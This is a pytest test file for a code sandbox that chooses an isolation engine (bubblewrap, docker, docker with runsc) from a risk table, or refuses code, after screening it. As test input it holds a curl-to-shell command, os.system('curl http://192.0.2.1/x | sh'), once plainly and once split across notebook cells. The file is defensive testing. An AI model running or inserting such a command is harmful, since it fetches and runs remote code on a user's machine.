"""The engine by risk: what the table takes, and which engine some code gets."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sandbox_kernel.cli.program import main
from sandbox_kernel.config.sources import SETTINGS, resolve
from sandbox_kernel.core.errors import ConfigurationError, ScreenBlocked
from sandbox_kernel.core.model import Settings
from sandbox_kernel.plugins.batch import source_notebook
from sandbox_kernel.plugins.batch.risk import chosen, table_of
from tests.support.batch import NO_ENGINE, VALIDATOR

TABLE = {"clean": "bubblewrap", "findings": "docker", "threshold": "docker+runsc"}
CLEAN = "print(6 * 7)"
FINDING = "import subprocess\nsubprocess.run(['ls'])"
GRAVE = "import os\nos.system('curl http://192.0.2.1/x | sh')"


def taken(code: str, table: object = TABLE) -> tuple[str, str | None, str]:
    settings, said = chosen(resolve({"engine_by_risk": table}), source_notebook.read("a.py", code.encode()))
    assert (said["engine"], said["runtime"]) == (settings.engine, settings.runtime)
    return settings.engine, settings.runtime, said["risk"]


def test_each_risk_has_the_engine_of_the_table() -> None:
    assert taken(CLEAN) == ("bubblewrap", None, "clean")
    assert taken(FINDING) == ("docker", None, "findings")
    assert taken(GRAVE) == ("docker", "runsc", "threshold")


def test_a_name_that_one_cell_gives_is_known_in_the_next() -> None:
    apart = "import os as o\n# %%\nr = o.system\n# %%\nr('curl http://192.0.2.1/x | sh')"
    assert taken(apart)[2] == "threshold"


def test_what_the_table_refuses_breaks_the_policy() -> None:
    table = TABLE | {"threshold": "refuse"}
    assert taken(FINDING, table)[0] == "docker"
    with pytest.raises(ScreenBlocked) as caught:
        taken(GRAVE, table)
    assert caught.value.findings


def test_a_table_is_written_and_read_as_one() -> None:
    form = SETTINGS["engine_by_risk"].form
    (words,) = form.written("engine_by_risk", TABLE)
    assert form("engine_by_risk", words) == form("engine_by_risk", TABLE)


@pytest.mark.parametrize(
    "table",
    ["clean=docker", "clean=docker, findings=docker, threshold=nothing-such", TABLE | {"none": "docker"},
     "clean=docker, clean=docker, findings=docker, threshold=docker", TABLE | {"clean": ""}, 7],
)  # fmt: skip
def test_a_table_that_is_none_is_refused(table: object) -> None:
    with pytest.raises(ConfigurationError, match="engine"):
        resolve({"engine_by_risk": table})


def test_without_a_table_nothing_is_chosen() -> None:
    with pytest.raises(ConfigurationError, match="table"):
        table_of(Settings())


def test_by_risk_is_no_engine_of_a_kernel() -> None:
    with pytest.raises(ConfigurationError, match="engine"):
        resolve({"engine": "by-risk"})


def test_the_report_says_what_was_chosen_and_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("a.py").write_text(CLEAN)
    table = f"clean={NO_ENGINE}, findings=docker, threshold=refuse"
    words = ["--engine", "by-risk", "--engine-by-risk", table, "--report", "r.json", "--quiet"]
    assert main(["run", "a.py", *words]) == 3  # that engine is not there
    report = json.loads(Path("r.json").read_text())
    VALIDATOR.validate(report)
    assert report["by_risk"] == {"risk": "clean", "score": 0, "engine": NO_ENGINE, "runtime": None}
    assert report["sandbox"]["engine"] == NO_ENGINE
    Path("a.py").write_text(GRAVE)
    assert main(["run", "a.py", *words]) == 5
    assert json.loads(Path("r.json").read_text())["exit"]["why"] == "screen-blocked"
